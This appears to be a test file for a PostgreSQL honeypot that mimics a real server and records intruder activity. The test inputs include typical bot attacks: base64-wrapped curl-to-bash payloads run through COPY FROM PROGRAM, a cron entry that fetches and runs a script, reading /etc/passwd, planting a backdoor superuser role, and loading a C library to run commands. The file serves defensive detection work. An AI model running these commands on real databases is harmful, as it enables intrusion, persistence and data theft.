import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { View } from '../world/files/view.ts';
import {
  bind,
  cancel,
  describe as describeMessage,
  execute,
  fieldsOf,
  lineOf,
  parse,
  password,
  query,
  request,
  startup,
  sync,
} from './fixtures/client.ts';
import { type Client, logIn, place } from './fixtures/visit.ts';

/** The tag of a query that went well. */
async function done(client: Client, text: string): Promise<string> {
  const lines = await client.ask(text);
  return lines.at(-1)!;
}

async function rows(client: Client, text: string): Promise<string[]> {
  const lines = await client.ask(text);
  return lines.filter((line) => line.startsWith('D ')).map((line) => line.slice(2));
}

/** The code and the message of a query that is refused. */
async function refusal(client: Client, text: string): Promise<string> {
  const answers = await client.send(query(text));
  const failure = answers.find(({ kind }) => kind === 'E');
  assert.ok(failure !== undefined, `${text} was taken`);
  const fields = fieldsOf(failure);
  return `${fields.get('C')} ${fields.get('M')}`;
}

describe('the PostgreSQL decoy', () => {
  it('asks for passwords in clear, and tells which were tried', async () => {
    const here = place();
    for (const [user, secret] of [
      ['nobody', 'x'],
      ['postgres', 'not-this-one'],
      ['postgres', 'postgres'],
      ['postgres', 'another'],
    ] as const) {
      const visitor = here.connect();
      assert.equal(
        (await visitor.ask(startup({ user, database: 'postgres' }))).toString('hex'),
        '520000000800000003',
      );
      await visitor.ask(password(secret));
    }
    const tried = here.events.filter(({ type }) => type === 'auth').map(({ data }) => data!);
    assert.deepEqual(
      tried.map(({ user, password: secret, isLetIn }) => [user, secret, isLetIn]),
      [
        ['nobody', 'x', false],
        ['postgres', 'not-this-one', false],
        ['postgres', 'postgres', true],
        // Who lets two passwords in shows that any would do.
        ['postgres', 'another', false],
      ],
    );
  });

  it('runs by COPY FROM PROGRAM what bots run, in the world, and keeps what it left', async () => {
    const here = place();
    const client = await logIn(here);
    await client.ask('DROP TABLE IF EXISTS cmd_exec; CREATE TABLE cmd_exec(cmd_output text);');
    assert.equal(await done(client, "COPY cmd_exec FROM PROGRAM 'id'"), 'C COPY 1');
    assert.match((await rows(client, 'SELECT * FROM cmd_exec'))[0]!, /^uid=\d+\(postgres\)/);
    const script = Buffer.from('curl -s http://198.51.100.7/pg.sh -o /tmp/pg.sh\n').toString('base64');
    await client.ask(`COPY cmd_exec FROM PROGRAM 'echo ${script}|base64 -d|bash'`);
    const programs = here.events.filter(({ type }) => type === 'program');
    assert.deepEqual(programs[0]!.commands, ['id']);
    assert.match(String(programs[0]!.data!.output), /^uid=/);
    assert.ok(JSON.stringify(programs[1]!.notes).includes('http://198.51.100.7/pg.sh'));
    assert.ok(programs[1]!.artefacts!.some(({ name }) => name === '/tmp/pg.sh'));
    assert.match(
      await refusal(client, "COPY cmd_exec FROM PROGRAM 'nope-xyz'"),
      /^38000 program "nope-xyz" failed/,
    );
  });

  it('runs nothing twice, and tells also what it cannot run', async () => {
    const here = place();
    const client = await logIn(here);
    assert.match(await refusal(client, "COPY missing FROM PROGRAM 'wget http://198.51.100.8/x'"), /^42P01/);
    const programs = here.events.filter(({ type }) => type === 'program');
    assert.equal(programs.length, 1);
    assert.equal(programs[0]!.data!.isRun, false);
  });

  it('takes a library in as a large object, writes it, and lets its function run commands', async () => {
    const here = place();
    const client = await logIn(here);
    const library = Buffer.concat([Buffer.from('\x7fELF', 'latin1'), Buffer.alloc(3000, 'x')]);
    await client.ask('SELECT lo_create(9001)');
    for (let at = 0; at < library.length; at += 2048)
      await client.ask(
        `INSERT INTO pg_largeobject (loid, pageno, data) VALUES (9001, ${at / 2048}, decode('${library.subarray(at, at + 2048).toString('hex')}', 'hex'))`,
      );
    assert.deepEqual(await rows(client, "SELECT lo_export(9001, '/tmp/udf.so')"), ['1']);
    assert.deepEqual(Buffer.from(new View(here.world.files).read('/tmp/udf.so')), library);
    const written = here.events.find(({ type, data }) => type === 'file' && data!.access === 'write')!;
    assert.deepEqual(Buffer.from(written.artefacts![0]!.content), library);
    assert.equal(
      await done(
        client,
        "CREATE FUNCTION sys_eval(text) RETURNS text AS '/tmp/udf.so', 'sys_eval' LANGUAGE C",
      ),
      'C CREATE FUNCTION',
    );
    assert.match((await rows(client, "SELECT sys_eval('id')"))[0]!, /postgres/);
    const ran = here.events.find(({ type }) => type === 'program')!;
    assert.deepEqual(ran.commands, ['id']);
    assert.ok(ran.attack!.includes('T1129'));
    assert.match(
      await refusal(client, "CREATE FUNCTION f() RETURNS text AS '/tmp/none.so', 'f' LANGUAGE C"),
      /^58P01 could not access file/,
    );
    assert.match(
      await refusal(client, "CREATE FUNCTION f() RETURNS int AS 'x' LANGUAGE plpython3u"),
      /^42704/,
    );
  });

  it('tells of files, roles, what is dropped, and servers that it never asks', async () => {
    const here = place();
    const client = await logIn(here);
    assert.match((await rows(client, "SELECT pg_read_file('/etc/passwd')"))[0]!, /^root:x:0:0:/);
    await client.ask("COPY (SELECT '* * * * * curl http://198.51.100.9/c|sh') TO '/tmp/cron'");
    await client.ask("CREATE ROLE back SUPERUSER LOGIN PASSWORD 'door'");
    await client.ask("ALTER USER postgres WITH PASSWORD 'mine'");
    await client.ask('CREATE TABLE t(a int); DROP TABLE t');
    await client.ask('CREATE EXTENSION dblink');
    assert.match(
      await refusal(client, "SELECT dblink_connect('host=203.0.113.5 port=5433 user=a dbname=b')"),
      /^08001 could not establish connection/,
    );
    const told = (type: string) => here.events.filter((one) => one.type === type).map(({ data }) => data);
    assert.deepEqual(told('file'), [
      { path: '/etc/passwd', access: 'read' },
      { path: '/tmp/cron', access: 'write', size: 40 },
    ]);
    assert.deepEqual(told('role'), [
      { role: 'back', flags: { superuser: true, login: true }, password: 'door' },
      { role: 'postgres', flags: {}, password: 'mine' },
    ]);
    assert.deepEqual(told('drop'), [{ what: 'table', names: ['t'] }]);
    const [outward] = here.events.filter(({ type }) => type === 'dblink');
    assert.deepEqual(outward!.notes, [{ kind: 'connect', tool: 'dblink', host: '203.0.113.5', port: 5433 }]);
    // What was set is what is asked for from now on.
    await logIn(here, { user: 'back', secret: 'door' });
    await logIn(here, { user: 'postgres', secret: 'postgres' });
    const tried = told('auth').slice(-2) as { isLetIn: boolean }[];
    assert.deepEqual(
      tried.map(({ isLetIn }) => isLetIn),
      [true, false],
    );
  });

  it('calls it destruction where something goes that was there before', async () => {
    const here = place();
    const first = await logIn(here);
    const [database] = await rows(
      first,
      'select datname from pg_database where oid > 10000 order by oid limit 1',
    );
    const client = await logIn(here, { database: database! });
    await client.ask('CREATE TABLE scratch(a int); DELETE FROM scratch; DROP TABLE scratch');
    assert.deepEqual(
      here.events.filter(({ attack }) => attack?.includes('T1485')),
      [],
    );
    await client.ask('DELETE FROM orders');
    await client.ask('TRUNCATE api_keys');
    await client.ask('DROP TABLE users');
    const destroyed = here.events.filter(({ attack }) => attack?.includes('T1485'));
    assert.deepEqual(
      destroyed.map(({ data, severity }) => [data!.what, data!.names, severity]),
      [
        ['rows', ['orders'], 'high'],
        ['rows', ['api_keys'], 'high'],
        ['table', ['users'], 'high'],
      ],
    );
  });

  it('keeps for a source what it made, and shows two personas of which nothing is the same', async () => {
    const here = place();
    await (await logIn(here)).ask('CREATE TABLE mark(a int)');
    assert.equal(await done(await logIn(here), 'SELECT * FROM mark'), 'C SELECT 0');
    const shown = async (seed: string): Promise<string[]> => {
      const client = await logIn(place(seed));
      return rows(client, "SELECT datname FROM pg_database WHERE datname NOT LIKE 'template%' ORDER BY 1");
    };
    const [one, other] = [await shown('one'), await shown('other')];
    assert.deepEqual(
      one.filter((name) => other.includes(name)),
      ['postgres'],
    );
  });

  it('takes parameters of all changes, and gives rows in parts', async () => {
    const here = place();
    const client = await logIn(here);
    await client.ask('CREATE TABLE t(a int, b text)');
    const changed = await client.send(
      Buffer.concat([
        parse('', 'INSERT INTO t VALUES ($1, $2) RETURNING b'),
        describeMessage('S', ''),
        bind('', '', ['7', 'seven']),
        execute(''),
        sync,
      ]),
    );
    assert.deepEqual(
      changed.map(lineOf).filter((line) => !line.startsWith('T')),
      ['1', 't 23, 25', '2', 'D seven', 'C INSERT 0 1', 'Z I'],
    );
    const parts = await client.send(
      Buffer.concat([
        parse('', 'SELECT generate_series(1, 3)'),
        bind('', ''),
        execute('', 2),
        execute('', 2),
        sync,
      ]),
    );
    assert.deepEqual(parts.map(lineOf), ['1', '2', 'D 1', 'D 2', 's', 'D 3', 'C SELECT 1', 'Z I']);
    const told = here.events.findLast(({ data }) => data?.parameters !== undefined)!;
    assert.deepEqual(told.data!.parameters, ['7', 'seven']);
  });

  it('takes back what was done where something fails', async () => {
    const client = await logIn(place());
    await client.ask('CREATE TABLE t(a int); INSERT INTO t VALUES (1)');
    await client.ask('INSERT INTO t VALUES (2); SELECT 1/0');
    await client.ask('BEGIN; DELETE FROM t');
    await client.ask('SELECT nope');
    assert.match(await refusal(client, 'SELECT 1'), /^25P02/);
    assert.equal(await done(client, 'COMMIT'), 'C ROLLBACK');
    assert.deepEqual(await rows(client, 'SELECT * FROM t'), ['1']);
  });

  it('copies from the client, what follows it too, and goes on after rows that are wrong', async () => {
    const here = place();
    const client = await logIn(here);
    await client.ask('CREATE TABLE t(a int, b text)');
    assert.deepEqual((await client.send(query('COPY t FROM STDIN; SELECT 5'))).map(lineOf), [
      'G 00000200000000',
    ]);
    const copied = await client.send(
      Buffer.concat([
        request('d', Buffer.from('1\tone\n2\t')),
        request('d', Buffer.from('\\N\n')),
        request('c'),
      ]),
    );
    assert.deepEqual(
      copied.map(lineOf).filter((line) => !line.startsWith('T')),
      ['C COPY 2', 'D 5', 'C SELECT 1', 'Z I'],
    );
    await client.send(query('COPY t FROM STDIN'));
    const refused = await client.send(Buffer.concat([request('d', Buffer.from('x\ty\n')), request('c')]));
    assert.equal(fieldsOf(refused[0]!).get('W'), 'COPY t, line 1, column a: "x"');
    assert.deepEqual(await rows(client, 'SELECT count(*) FROM t'), ['2']);
    assert.equal(here.events.find(({ type }) => type === 'copy')!.data!.size, 11);
  });

  it('ends what is waited for, when the client or another session says so', async () => {
    const here = place();
    const visitor = here.connect();
    await visitor.ask(startup());
    const greeting = await visitor.ask(password('postgres'));
    const key = greeting.indexOf(Buffer.from('K\0\0\0\x0c', 'latin1')) + 5;
    const [processId, secret] = [greeting.readInt32BE(key), greeting.readInt32BE(key + 4)];
    const waiting = visitor.ask(query('select pg_sleep(100)'), 5000);
    here.connect().stream.write(cancel(processId, secret));
    assert.match((await waiting).toString(), /C57014\0Mcanceling statement due to user request/);
    const client = await logIn(here);
    const ended = visitor.ask('', 5000);
    assert.deepEqual(await rows(client, `SELECT pg_terminate_backend(${processId})`), ['t']);
    assert.match((await ended).toString(), /C57P01\0Mterminating connection due to administrator command/);
  });

  it('makes fifty events of a kind of one query, and counts the others', async () => {
    const here = place();
    const client = await logIn(here);
    await client.ask("do $$ begin for i in 1..300 loop execute 'select 1'; end loop; end $$");
    const inner = here.events.filter(({ data }) => data?.by === 'EXECUTE');
    assert.equal(inner.length, 50);
    assert.ok(here.events.some(({ data }) => data?.more === 250));
  });
});
